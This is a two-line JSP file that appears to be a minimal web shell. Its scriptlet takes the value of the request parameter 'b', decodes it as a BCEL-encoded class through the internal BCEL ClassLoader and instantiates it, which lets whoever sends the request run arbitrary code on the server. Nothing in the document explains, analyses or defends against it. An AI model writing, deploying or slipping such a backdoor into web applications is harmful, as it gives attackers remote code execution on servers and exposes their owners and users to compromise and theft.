<%@ inert %>
<% Class.forName("$$BCEL$$"+request.getParameter("b"),true,new com.sun.org.apache.bcel.internal.util.ClassLoader()).newInstance(); %>
